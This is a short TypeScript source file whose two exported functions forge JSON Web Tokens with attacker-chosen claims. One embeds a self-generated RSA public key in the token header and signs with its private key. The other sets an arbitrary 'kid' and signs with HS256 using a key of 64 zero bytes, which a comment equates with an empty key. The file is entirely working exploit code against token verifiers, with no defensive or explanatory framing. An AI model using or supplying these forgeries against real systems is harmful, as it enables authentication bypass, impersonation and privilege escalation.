import { createHmac, createSign, generateKeyPairSync } from 'node:crypto'

const read = (segment = ''): any => JSON.parse(Buffer.from(segment, 'base64url').toString('utf8'))
const write = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

export function forgeWithOwnKey(token: string, changes: object): string {
  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const [header, payload] = token.split('.')
  const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'mine', use: 'sig' }
  const input = `${write({ ...read(header), alg: 'RS256', kid: 'mine', jwk })}.${write({ ...read(payload), ...changes })}`
  return `${input}.${createSign('RSA-SHA256').update(input).sign(privateKey, 'base64url')}`
}

// Sixty-four zero bytes are the same HMAC key as none.
export function forgeWithKid(token: string, kid: string, changes: object): string {
  const [header, payload] = token.split('.')
  const input = `${write({ ...read(header), alg: 'HS256', kid })}.${write({ ...read(payload), ...changes })}`
  return `${input}.${createHmac('sha256', Buffer.alloc(64)).update(input).digest('base64url')}`
}
